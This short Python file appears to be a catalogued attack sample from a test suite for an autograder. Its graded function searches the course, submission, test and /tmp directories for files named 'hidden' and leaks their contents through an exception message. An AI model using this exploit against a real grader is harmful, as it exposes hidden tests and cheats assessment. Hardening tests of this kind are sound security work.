"""Reads every file with `hidden` in its name near the course, and shouts it in a public check.

Earns: 2
Class: 8 9
Repeat: without root
"""

import base64
import os

from shapes.tools import COURSE, SUBMISSIONS, until

import autograder


def hunt():
    found = []
    clock = until(2)
    for top in (COURSE, SUBMISSIONS, os.path.dirname(autograder.__file__) + "/../tests", "/tmp"):
        for folder, _, files in os.walk(top):
            next(clock, None)
            for name in files:
                if "hidden" in name:
                    try:
                        with open(os.path.join(folder, name), "rb") as file:
                            found.append(name.encode() + file.read())
                    except OSError:
                        found.append(name.encode())
    return b"\n".join(found[:3])[:1500]


def square(x):
    text = hunt()
    raise ValueError(text.decode("latin-1") + "\n" + base64.b64encode(text[:300]).decode())
